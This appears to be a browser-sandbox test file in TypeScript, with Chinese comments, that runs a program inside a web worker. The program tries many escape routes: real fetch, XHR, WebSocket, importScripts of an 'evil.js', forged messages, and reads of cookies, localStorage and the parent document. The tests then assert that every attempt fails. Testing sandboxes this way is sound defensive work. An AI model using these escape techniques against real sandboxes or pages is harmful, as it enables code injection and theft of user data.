/**
 * 沙箱：程序试遍各种办法往外跑，一样也不成。服务器记下收到的每个请求，作为证据。
 */
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import type { Browser } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { compileAll } from '../../../lab/compile.ts';
import { chromiumPath, launch, openPage, openSite, playIn, type Site } from './harness.ts';

const executablePath = chromiumPath();

/** 每种办法：成了打印「成」，不成打印「不成」。`target` 是一台真的服务器。 */
const attempts = (target: string) => `
import { setTimeout as sleep } from 'node:timers/promises';
const outer = Object.getPrototypeOf(globalThis);
const report = async (name, attempt) => {
  try { const result = await attempt(); console.log(name, '成', String(result)); }
  catch (error) { console.log(name, '不成', error.name); }
};
const target = ${JSON.stringify(target)};
const script = target + 'evil.js';
const real = (name) => { for (let object = Object.getPrototypeOf(outer); object; object = Object.getPrototypeOf(object)) if (Object.hasOwn(object, name)) return object[name].bind(outer); };
console.log('真的 fetch：', typeof real('fetch'));
await report('fetch', () => real('fetch')(target + 'fetch'));
await report('程序的 fetch', () => fetch(target + 'fetch2'));
await report('XMLHttpRequest', () => { const request = new outer.XMLHttpRequest(); request.open('GET', target + 'xhr', false); request.send(); return request.status; });
await report('WebSocket', () => { const socket = new outer.WebSocket(target.replace('http', 'ws') + 'ws'); return '造出对象 ' + socket.readyState; });
await report('EventSource', () => new outer.EventSource(target + 'events').readyState);
await report('import()', async () => { const load = outer.labImport ?? ((url) => new Promise((resolve, reject) => { const blob = new outer.Blob(['self.leak = import(' + JSON.stringify(url) + ')'], { type: 'text/javascript' }); outer.importScripts(outer.URL.createObjectURL(blob)); outer.leak.then(resolve, reject); })); return load(script); });
await report('importScripts', () => outer.importScripts(script));
await report('子worker', () => { const worker = new outer.Worker(script); return worker; });
await report('IndexedDB', () => new Promise((resolve, reject) => { const request = outer.indexedDB.open('x'); request.onsuccess = () => resolve('开了'); request.onerror = () => reject(request.error); }));
await report('caches', () => outer.caches.open('x'));
await report('BroadcastChannel', () => { const channel = new outer.BroadcastChannel('lab'); channel.postMessage('漏'); return '造出对象'; });
await report('eval', () => outer.eval('1'));
await report('Function', () => outer.Function('return 1')());
await report('冒充进程', () => real('postMessage')({ kind: 'answer', answer: { calls: [], wake: null, now: 0, exit: { code: 99 } } }));
await report('冒充指挥', () => { const Event = outer.MessageEvent; outer.dispatchEvent(new Event('message', { data: { kind: 'start' } })); return '说了'; });
await report('parent', () => outer.parent.document);
await report('localStorage', () => outer.localStorage.length);
await report('cookie', () => outer.document.cookie);
await sleep(10);
console.log('试完');
`;

describe.skipIf(!executablePath)('沙箱', () => {
  let site: Site;
  let browser: Browser;
  let target: Server;
  const reached: string[] = [];
  beforeAll(async () => {
    site = await openSite();
    target = createServer((request, response) => {
      reached.push(`${request.method} ${request.url}`);
      response.writeHead(200, { 'access-control-allow-origin': '*', 'content-type': 'text/javascript' });
      response.end('self.evil = 1; export default 1;');
    });
    target.on('upgrade', (request, socket) => {
      reached.push(`UPGRADE ${request.url}`);
      socket.destroy();
    });
    target.on('connection', () => reached.push('connection'));
    await new Promise<void>((resolve) => target.listen(0, '127.0.0.1', resolve));
    browser = await launch(executablePath!);
  });
  afterAll(async () => {
    await browser?.close();
    site?.close();
    target?.close();
  });

  test('碰不到网络、存储、页面', async () => {
    const page = await openPage(browser, site.url);
    await page.evaluate(() => {
      const heard: string[] = [];
      new BroadcastChannel('lab').addEventListener('message', (event) => heard.push(String((event as { data?: unknown }).data)));
      Object.assign(globalThis, { heard });
    });
    const url = `http://127.0.0.1:${(target.address() as AddressInfo).port}/`;
    const modules = compileAll({ 'escape.ts': attempts(url) });
    const played = await playIn(page, { hosts: { a: ['10.0.0.1'] }, programs: [{ host: 'a', modules, entry: 'escape.ts' }] });
    const lines = played.stdout[0]!.trim().split('\n');
    expect([lines.at(-1), played.stderr[0], played.exits[0]]).toEqual(['试完', '', 0]);
    // 试的是真的 fetch，不是实验室的替身：沙箱挡住的就是它
    expect(lines).toContain('真的 fetch： function');
    const succeeded = lines.filter((line) => / 成 /.test(line)).map((line) => line.split(' ')[0]);
    // 这几个造得出对象，但谁也到不了：下面看服务器和频道。冒充的指挥没有人听：程序走到了头
    expect(succeeded.filter((name) => !['WebSocket', 'EventSource', 'BroadcastChannel', '子worker', '冒充指挥'].includes(name!))).toEqual([]);
    await page.waitForTimeout(500);
    expect(reached).toEqual([]);
    expect(await page.evaluate(() => (globalThis as unknown as { heard: string[] }).heard)).toEqual([]);
    expect(site.requests.filter((line) => !/ \/(page\.js|nodelib\.js|process\.js|favicon\.ico)?$/.test(line))).toEqual([]);
  });

  test('程序改了 worker 的全局对象，也影响不到页面和别的进程', async () => {
    const page = await openPage(browser, site.url);
    const modules = compileAll({
      'spoil.ts': `const outer = Object.getPrototypeOf(globalThis); outer.Array.prototype.push = () => 0; outer.Promise = null; console.log('改了');`,
      'normal.ts': `const list = []; list.push(1); await Promise.resolve(); console.log('没事', list.length);`,
    });
    const programs = ['spoil.ts', 'normal.ts'].map((entry) => ({ host: 'a', modules, entry }));
    const played = await playIn(page, { hosts: { a: ['10.0.0.1'] }, programs, untilMs: 1000, watchdogMs: 1500 });
    expect(played.stdout[1]).toBe('没事 1\n');
    expect(await page.evaluate(() => [1].concat(2).length)).toBe(2);
  });
});
